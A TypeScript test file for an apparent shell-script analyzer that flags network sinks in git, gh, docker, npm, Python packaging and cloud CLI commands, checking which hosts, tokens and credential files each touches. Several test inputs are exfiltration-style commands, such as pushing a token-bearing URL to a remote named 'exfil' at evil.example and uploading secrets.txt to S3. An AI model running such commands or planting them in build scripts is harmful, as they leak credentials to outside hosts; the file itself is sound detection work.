import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { readsEnvVar } from '../../../src/analysis/sinks/index.js';
import { parseScript } from '../../../src/scripts/index.js';
import { matchAll, one, sinks } from './helpers.js';

describe('git', () => {
  it('push to a URL with a token in userinfo', async () => {
    const s = await one('git push "https://x-access-token:${TOKEN}@github.com/o/r.git" HEAD:main');
    assert.equal(s.tool, 'git push');
    assert.equal(s.channel, 'git');
    assert.deepEqual(s.hosts, ['github.com']);
    assert.ok(s.payload.some((p) => p.includes('TOKEN')));
    assert.ok(s.readsFiles.includes('.git/config'));
  });
  it('clone, scp-like URLs, ls-remote, fetch', async () => {
    assert.deepEqual((await one('git clone --depth 1 -b main git@gitlab.example:o/r.git dir')).hosts, [
      'gitlab.example',
    ]);
    assert.deepEqual((await one('git ls-remote https://evil.example/r')).hosts, ['evil.example']);
    assert.deepEqual((await one('git fetch ssh://git@h.example:2222/r')).hosts, ['h.example:2222']);
  });
  it('push without a URL goes to an unknown remote', async () => {
    assert.deepEqual((await one('git push')).hosts, ['?']);
    assert.deepEqual((await one('git push origin main')).hosts, ['?']);
  });
  it('a remote name resolves through remote add earlier in the script', async () => {
    const all = await sinks('git remote add exfil "https://u:$T@evil.example/r.git"\ngit push exfil main');
    assert.equal(all.length, 2);
    assert.deepEqual(all[1]?.hosts, ['evil.example']);
  });
  it('-c http.extraheader is payload', async () => {
    const s = await one('git -c http.extraheader="AUTHORIZATION: basic $B" clone https://h.example/r');
    assert.ok(s.payload.some((p) => p.includes('extraheader')));
    assert.deepEqual(s.hosts, ['h.example']);
  });
  it('local subcommands are not sinks', async () => {
    assert.deepEqual(await sinks('git commit -m x && git status && git log'), []);
  });
});

describe('gh', () => {
  it('defaults to api.github.com and reads the GitHub tokens', async () => {
    const s = await one('gh api repos/o/r/issues -f title=x -f body="$T"');
    assert.deepEqual(s.hosts, ['default:api.github.com']);
    assert.ok(s.readsEnv.includes('GH_TOKEN') && s.readsEnv.includes('GITHUB_TOKEN'));
    assert.ok(s.payload.some((p) => p.includes('T')));
  });
  it('--hostname for GHES; release uploads; secret set from stdin', async () => {
    assert.deepEqual((await one('gh api --hostname ghe.corp.example /user')).hosts, ['ghe.corp.example']);
    assert.deepEqual((await one('gh release upload v1 dist/a.tgz dist/b.tgz')).uploads, [
      'dist/a.tgz',
      'dist/b.tgz',
    ]);
    assert.equal((await one('echo "$T" | gh secret set NAME')).stdin, true);
    assert.deepEqual((await one('gh api /x --input body.json')).uploads, ['body.json']);
  });
});

describe('docker and registries', () => {
  it('docker login with --password-stdin defaults to Docker Hub', async () => {
    const s = await one('echo "$P" | docker login -u me --password-stdin');
    assert.deepEqual(s.hosts, ['default:registry-1.docker.io']);
    assert.equal(s.stdin, true);
  });
  it('docker login to a named registry with -p', async () => {
    const s = await one('docker login ghcr.io -u me -p "$P"');
    assert.deepEqual(s.hosts, ['ghcr.io']);
    assert.ok(s.payload.some((p) => p.includes('P')));
  });
  it('push/pull: the registry of the image', async () => {
    assert.deepEqual((await one('docker push ghcr.io/o/app:1')).hosts, ['ghcr.io']);
    assert.deepEqual((await one('docker push myorg/app:1')).hosts, ['registry-1.docker.io']);
    assert.deepEqual((await one('docker image push localhost:5000/app')).hosts, ['localhost:5000']);
    assert.ok((await one('docker push ghcr.io/o/app')).readsFiles.includes('~/.docker/config.json'));
  });
  it('buildx build --push -t', async () => {
    const s = await one(
      'docker buildx build --push -t 123.dkr.ecr.eu-west-1.amazonaws.com/app:1 -t ghcr.io/o/app .',
    );
    assert.deepEqual(s.hosts, ['123.dkr.ecr.eu-west-1.amazonaws.com', 'ghcr.io']);
    assert.deepEqual(await sinks('docker build -t app .'), []);
  });
});

describe('npm family', () => {
  it('npm publish defaults to registry.npmjs.org and reads the npm token', async () => {
    const s = await one('npm publish --access public');
    assert.deepEqual(s.hosts, ['default:registry.npmjs.org']);
    assert.ok(s.readsEnv.includes('NODE_AUTH_TOKEN') && s.readsEnv.includes('NPM_TOKEN'));
    assert.ok(s.readsFiles.includes('~/.npmrc'));
  });
  it('--registry overrides; npx and yarn/pnpm', async () => {
    assert.deepEqual((await one('npm publish --registry https://npm.pkg.github.com')).hosts, [
      'npm.pkg.github.com',
    ]);
    assert.deepEqual((await one('npm install --registry=https://evil.example/')).hosts, ['evil.example']);
    assert.equal((await one('npx some-tool')).tool, 'npx');
    assert.equal((await one('pnpm publish')).tool, 'pnpm publish');
    assert.equal((await one('yarn npm publish')).tool, 'yarn publish');
    assert.deepEqual(await sinks('npm run build && npm test'), []);
  });
});

describe('python packaging', () => {
  it('twine upload defaults to upload.pypi.org', async () => {
    const s = await one('twine upload dist/*');
    assert.deepEqual(s.hosts, ['default:upload.pypi.org']);
    assert.ok(s.readsEnv.includes('TWINE_PASSWORD'));
    assert.ok(s.readsFiles.includes('~/.pypirc'));
  });
  it('twine --repository-url, -r testpypi, python -m twine', async () => {
    assert.deepEqual((await one('twine upload --repository-url https://evil.example/legacy/ dist/*')).hosts, [
      'evil.example',
    ]);
    assert.deepEqual((await one('twine upload -r testpypi dist/*')).hosts, ['default:test.pypi.org']);
    assert.deepEqual((await one('python3 -m twine upload -u __token__ -p "$T" dist/*')).hosts, [
      'default:upload.pypi.org',
    ]);
  });
  it('pip index URLs', async () => {
    assert.deepEqual((await one('pip install -i "https://u:$T@pkgs.example/simple" x')).hosts, [
      'pkgs.example',
    ]);
    assert.deepEqual(
      (await one('python -m pip install --extra-index-url https://extra.example/simple x')).hosts,
      ['extra.example', 'default:pypi.org'],
    );
    assert.deepEqual((await one('uv pip install --index-url https://idx.example/simple x')).hosts, [
      'idx.example',
    ]);
  });
  it('poetry, uv, flit publish', async () => {
    const p = await one('poetry publish --build');
    assert.deepEqual(p.hosts, ['default:upload.pypi.org']);
    assert.ok(await readsEnvVarOf('poetry publish', 'POETRY_PYPI_TOKEN_PYPI'));
    assert.equal(await readsEnvVarOf('poetry publish', 'UNRELATED'), false);
    assert.deepEqual((await one('uv publish --publish-url https://up.example/legacy/')).hosts, [
      'up.example',
    ]);
    assert.deepEqual((await one('flit publish')).hosts, ['default:upload.pypi.org']);
  });
});

async function readsEnvVarOf(code: string, name: string): Promise<boolean> {
  const m = matchAll(await parseScript(code, 'bash'));
  return m.some((x) => readsEnvVar(x, name));
}

describe('cloud CLIs', () => {
  it('aws: the service host, AWS_* env, --endpoint-url override, s3 uploads', async () => {
    const s = await one('aws s3 cp secrets.txt s3://bucket/key --region us-east-1');
    assert.deepEqual(s.hosts, ['default:s3.amazonaws.com']);
    assert.deepEqual(s.uploads, ['secrets.txt']);
    assert.ok(s.readsEnv.includes('AWS_SECRET_ACCESS_KEY'));
    assert.deepEqual((await one('aws --endpoint-url https://minio.example s3 ls')).hosts, ['minio.example']);
  });
  it('gcloud, az, kubectl, terraform', async () => {
    assert.deepEqual((await one('gcloud run deploy svc --image x')).hosts, ['default:run.googleapis.com']);
    assert.deepEqual((await one('az login --service-principal -u "$ID" -p "$SECRET" --tenant t')).hosts, [
      'default:login.microsoftonline.com',
    ]);
    assert.deepEqual((await one('kubectl apply -f deploy.yaml')).hosts, ['?']);
    assert.deepEqual((await one('kubectl --server https://k8s.example:6443 get pods')).hosts, [
      'k8s.example:6443',
    ]);
    assert.ok(await readsEnvVarOf('terraform apply -auto-approve', 'TF_VAR_db_password'));
  });
  it('fixed-host CLIs', async () => {
    assert.deepEqual((await one('wrangler deploy')).hosts, ['default:api.cloudflare.com']);
    assert.deepEqual((await one('gem push pkg.gem')).hosts, ['default:rubygems.org']);
    assert.deepEqual((await one('cargo publish')).hosts, ['default:crates.io']);
    assert.deepEqual(await sinks('cargo build --release'), []);
  });
});

describe('destination environment prefixes', () => {
  it('GH_HOST, NPM_CONFIG_REGISTRY, TWINE_REPOSITORY_URL replace the default host', async () => {
    assert.deepEqual((await one('GH_HOST=ghe.corp.example gh api /user')).hosts, ['ghe.corp.example']);
    assert.deepEqual((await one('NPM_CONFIG_REGISTRY=https://npm.evil.example npm publish')).hosts, [
      'npm.evil.example',
    ]);
    assert.deepEqual(
      (await one('TWINE_REPOSITORY_URL=https://up.example/legacy/ twine upload dist/*')).hosts,
      ['up.example'],
    );
    assert.deepEqual((await one('FOO=1 npm publish')).hosts, ['default:registry.npmjs.org']);
  });
});
